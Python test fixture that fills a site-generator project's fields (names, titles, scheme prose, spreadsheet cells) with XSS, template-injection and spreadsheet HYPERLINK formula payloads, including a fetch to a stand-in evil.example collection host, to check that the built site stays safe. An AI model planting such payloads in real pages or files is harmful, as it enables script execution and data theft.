"""A project whose every user-written text tries to inject markup, script or an outside request:
scheme prose and names, the site title, the agency name (with carriage returns), people's names in a results sheet, a
department's former name (formerly:), award matters and count columns (kind: awards events: true,
counts:), the office's own 等次/名次 cells, decision reasons. The
site built from it must run no script of theirs and load nothing from outside (tests/publish and
tests/browser use it)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from tests.archive.util import add_columns, make_project, rename_by_id, replace_cells

AGENCY, SCHEME = "yunxi-czj", "s003-p2"
EPOCH = "1752148800"  # 2025-07-10 12:00 UTC: the 2025-Q2 公示 (from 2025-07-09) is open
EVIL = "evil.example"

BODY = f"""正文。<script>alert('body-script')</script>

[点这里](javascript:alert('md-link')) 与 <a href="javascript:alert('a-link')">链接</a>

<img src=x onerror="alert('img-onerror')"> <iframe src="https://{EVIL}/frame"></iframe>

*强调*{{: onmouseover="alert('attr-list')" }}

<p markdown="1" onclick="alert('md-in-html')">**x**</p>

<img src="\\\\{EVIL}/unc.png"> <img src="https&#58;//{EVIL}/entity.png"> <img srcset="a.png 1x, https://{EVIL}/2x.png 2x">

<meta http-equiv="refresh" content="0; url=https://{EVIL}/"> <script>fetch('https://{EVIL}/collect')</script>

原文出处：https://www.gov.cn/zhengce/content/2020-01/01/content_1.htm（只是引用，不是请求）
"""

# a carriage return is a line break to Markdown: the rest of the name must not become a code block or a heading
EVIL_AGENCY = "云溪县财政局<svg onload=alert('agency')>\r\r    缩进成代码\r===\r\r!!! note"

NAMES = [
    "<img src=x onerror=alert('name-img')>",
    "*x*{: onmouseover=alert('name-attr') }",
    # a name starting with = or ＝ is refused since (cell-formula-text: a formula kept as text); + and ＋ still
    # start a formula to a spreadsheet, and a download must keep them text
    "+HYPERLINK(\"https://evil.example/\",\"点我\")",
    "张三\n\n<script>alert('name-blank-line')</script>",
    "[李四](javascript:alert('name-link'))",
    "＋HYPERLINK(\"https://evil.example/\",\"全角加号\")",  # a Chinese IME's full-width ＋: a formula to a spreadsheet
]


def _yaml_line(text: str) -> str:
    import json

    return json.dumps(text, ensure_ascii=False)


# Every key of a scheme whose text a page, download or search entry shows as prose or a label (not
# the names a sheet's columns are matched by): each gets a payload of its own.
PROSE_KEYS = ("standard", "text", "reason", "title", "about", "body", "description", "what", "label", "short_name", "issuer",
              "version", "assessed", "source", "summary", "then", "objection", "note")  # form: one of two known forms


def _every_prose_field(text: str) -> str:
    import yaml

    data = yaml.safe_load(text)

    def walk(node, key=None):
        if isinstance(node, dict):
            return {k: walk(v, k) for k, v in node.items()}
        if isinstance(node, list):
            return [walk(v, key) for v in node]
        if isinstance(node, str) and key in PROSE_KEYS:
            return node + f"<img src=x onerror=alert('{key}')>"
        return node

    return yaml.safe_dump(walk(data), allow_unicode=True, sort_keys=False, width=1000)


def make_injected_project(dest: Path) -> Path:
    root = make_project(dest, [AGENCY])
    scheme = root / "schemes" / f"{SCHEME}.yaml"
    text = scheme.read_text("utf-8")
    indented = "\n".join("      " + line if line else "" for line in BODY.splitlines())
    replacements = [
        ("name: 公务员平时考核实施方案\n", "name: " + _yaml_line("公务员平时考核<script>alert('scheme-name')</script>方案") + "\n"),
        ("source: 003 财政局公务员平时考核工作方案7篇 · 篇二\n", "source: 003 篇二 https://www.gov.cn/zhengce/2021/x.htm <script>alert('source')</script>\n"),
        ("    body: 本单位非领导成员公务员（含参公人员）。\n", "    body: |\n" + indented + "\n"),
    ]
    for old, new in replacements:
        assert old in text, old
        text = text.replace(old, new, 1)
    assert QUARTER_GRADES in text
    scheme.write_text(_every_prose_field(text.replace(QUARTER_GRADES, NEW_ADJUSTMENTS + QUARTER_GRADES, 1)), encoding="utf-8")
    site = root / "content" / "site.yaml"
    site.write_text(site.read_text("utf-8").replace("title: 考核办法与考核结果（示例）",
                                                    "title: " + _yaml_line("考核</title><script>alert('site-title')</script>{: onclick=alert(1) }")), encoding="utf-8")
    agency = root / "content" / AGENCY / "agency.yaml"
    agency.write_text(agency.read_text("utf-8").replace("name: 云溪县财政局", "name: " + _yaml_line(EVIL_AGENCY)), encoding="utf-8")
    year = root / "content" / AGENCY / SCHEME / "2025"
    q2 = year / "Q2.csv"
    raw = q2.read_bytes()
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig" if raw.startswith(b"\xef\xbb\xbf") else "gb18030"))))
    ids = [row[rows[0].index("编号")] for row in rows[1:len(NAMES) + 1]]
    # by ID in every sheet of the year (another name under the same ID within a year is id-name-mismatch);
    # a CSV cell can hold a line break, the sheet reader keeps one line
    names = {pid: name.replace("\n", " ") for pid, name in zip(ids, NAMES, strict=True)}
    for sheet in sorted(year.iterdir()):
        if sheet.suffix in (".csv", ".xlsx"):
            rename_by_id(sheet, names)
    _office_fields(root)
    _new_columns(root, ids[0])
    return root


# Adjustments of the newer scheme language, whose column names and cells carry payloads too
AWARDS_COLUMN, COUNT_COLUMN = "表彰<b>加分</b>", "迟到<img/src=x/onerror=alert('count')>次数"
MATTER = "<script>alert('matter')</script>{{7*7}}"
QUARTER_GRADES = "    grades:\n      order: [好, 较好, 一般, 较差]\n"
NEW_ADJUSTMENTS = f"""      - kind: awards
        name: "表彰<img src=x onerror=alert('awards-name')>"
        column: {_yaml_line(AWARDS_COLUMN)}
        events: true
        points: {{"市级表彰": 0.5, "县级表彰": 0.25}}
        cap: 1
        text: "同一事项按最高一项计<script>alert('awards-text')</script>{{% raw %}}]]>"
      - kind: penalty
        name: "考勤{{{{ 7*7 }}}}"
        counts: {{{_yaml_line(COUNT_COLUMN)}: 0.5}}
        cap: 1
        text: "[x](javascript:alert('counts-text')) =HYPERLINK(\\"http://evil\\")"
"""


def _new_columns(root: Path, first: str) -> None:
    """The awards and count columns in every quarter's sheet (one person's awards by matters named with
    payloads); the office's own 等次 and 名次 columns, holding payloads, in 2025's Q2."""
    for sheet in sorted((root / "content" / AGENCY / SCHEME).rglob("*")):
        if sheet.suffix in (".csv", ".xlsx") and not sheet.name.endswith(".decisions.csv") and sheet.stem not in ("Y", "年度"):
            add_columns(sheet, {AWARDS_COLUMN: {first: f"{MATTER}:市级表彰、县级表彰；=HYPERLINK(\"e\"):县级表彰"}, COUNT_COLUMN: {}})
    add_columns(root / "content" / AGENCY / SCHEME / "2025" / "Q2.csv",
                {"等次": {first: "<img src=x onerror=alert('office-grade')>"}, "名次": {first: "=HYPERLINK(\"http://evil\")"}})


DEPARTMENT = "综合股"
EVIL_DEPARTMENT = "综合股<img src=x onerror=alert('department')>"


EVIL_FORMER = "综合组<img src=x onerror=alert('formerly')>"


def _office_fields(root: Path) -> None:
    """What the office writes besides the sheets' names: the agency's issuer and contact, a department
    (in agency.yaml and in every sheet of 2025; under its former name, formerly:, in 2024's), each
    公示's document number, a decision's reason."""
    agency = root / "content" / AGENCY / "agency.yaml"
    text = agency.read_text("utf-8")
    assert f", {DEPARTMENT}]" in text
    text = text.replace(f", {DEPARTMENT}]", f", {{name: {_yaml_line(EVIL_DEPARTMENT)}, formerly: [{_yaml_line(EVIL_FORMER)}]}}]")
    for key in ("issuer", "contact"):
        text = text.replace(f"\n{key}: ", f"\n{key}: <img src=x onerror=alert('{key}')>", 1)
    agency.write_text(text, encoding="utf-8")
    for sheet in sorted((root / "content" / AGENCY).rglob("*")):
        if sheet.name.endswith((".notice.yaml",)):
            notice = sheet.read_text("utf-8")
            if "number:" in notice:
                sheet.write_text(notice.replace("number: ", "number: <img src=x onerror=alert('number')>", 1), encoding="utf-8")
        elif sheet.name.endswith(".decisions.csv"):
            raw = sheet.read_bytes()
            encoding = "utf-8-sig" if raw.startswith(b"\xef\xbb\xbf") else "gb18030"
            rows = list(csv.reader(io.StringIO(raw.decode(encoding))))
            reason = rows[0].index("理由")
            for row in rows[1:]:
                row[reason] += "<script>alert('reason')</script>"
            buffer = io.StringIO(newline="")
            csv.writer(buffer, lineterminator="\r\n").writerows(rows)
            sheet.write_bytes(buffer.getvalue().encode(encoding))
        elif sheet.suffix in (".csv", ".xlsx"):
            replace_cells(sheet, DEPARTMENT, EVIL_FORMER if "2024" in sheet.parts else EVIL_DEPARTMENT)
